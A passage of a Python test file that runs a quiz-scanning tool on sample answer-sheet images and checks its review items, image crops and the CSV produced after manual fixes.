        ),
        "d.jpg": scanned(4, {}),
    }.items():
        (folder / name).write_bytes(data)
    (folder / "e.png").write_bytes(b"\x89PNG\r\n\x1a\n not an image at all")

    def quiz(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "attnquiz", *args], cwd=tmp_path, capture_output=True, text=True,
            input=stdin, timeout=600, check=False,
        )  # fmt: skip

    done = quiz("scan", "scans", "--sheets", str(out / "answer-sheets.json"), "-o", "answers.csv")
    assert done.returncode == 1, done.stdout + done.stderr
    review = tmp_path / "answers.review.json"
    _, items = load_review(review)
    pending = [i for i in items if i.value is None]

    def height(item: ReviewItem) -> int:
        image = cv2.imread(str(tmp_path / item.crop), cv2.IMREAD_GRAYSCALE)
        assert image is not None, item
        return int(image.shape[0])

    for item in pending:
        if item.crop:
            assert (tmp_path / item.crop).is_file(), item
            assert height(item) > 20
            assert not item.no_crop
        else:
            assert item.no_crop.startswith("no image: "), item
    # one entry's crop alone: for the heights of the crops that hold more
    alone = read_image(
        cv2.imdecode(np.frombuffer((folder / "c.jpg").read_bytes(), np.uint8), 0), layout, "c.jpg", 0
    )
    one = cv2.imdecode(np.frombuffer(next(f for f in alone.flags if f.column == vector).crop, np.uint8), 0)
    one_height = int(one.shape[0])
    # the page scanned twice: the shape read differently, both scans' crops of both entries, by file
    (differ,) = [i for i in pending if i.column == shape]
    assert differ.student == 1
    assert "a.jpg: 3, 4" in differ.reason, differ.reason
    assert "on 2 scans of page 1" in differ.reason, differ.reason
    assert "b.jpg: 3, 6" in differ.reason, differ.reason
    assert differ.reason.startswith("question ")
    assert height(differ) > 4 * one_height
    # student 1's two entries in doubt: one item for the cell, with both reasons and both crops (and
    # the two empty entries); its marker is the cell's, so settling it fills the cell
    (both,) = [i for i in pending if i.column == vector and i.student == 1]
    assert both.reason.count("two bubbles filled") == 2, both.reason
    assert not both.readings
    assert height(both) > 3 * one_height
    rows = list(csv.DictReader(io.StringIO((tmp_path / "answers.csv").read_text())))
    assert rows[0][vector] == f"{REVIEW_PREFIX}{both.n}"
    # student 2's entry in doubt is shown with the three entries read empty beside it
    (lone,) = [i for i in pending if i.column == vector and i.student == 2]
    assert height(lone) > 3 * one_height
    (missing,) = [i for i in pending if i.kind == "missing"]
    assert missing.no_crop == NO_SCAN
    (junk,) = [i for i in pending if i.kind == "page"]
    assert "e.png" in junk.source
    assert junk.no_crop == NO_PAGE_IMAGE
    # --fix says where each picture is, or why there is none; settling the merged item fills the cell
    answers = {both.n: "[12, 3, 1, 1]"}
    done = quiz(
        "scan", "--fix", "-o", "answers.csv", stdin="".join(f"{answers.get(i.n, 'skip')}\n" for i in pending)
    )
    assert "no image: this page was not in the scans" in done.stdout, done.stdout
    assert NO_PAGE_IMAGE in done.stdout
    assert done.stdout.count("image: ") >= len([i for i in pending if i.crop])
    rows = list(csv.DictReader(io.StringIO((tmp_path / "answers.csv").read_text())))
    assert rows[0][vector] == "[12, 3, 1, 1]"
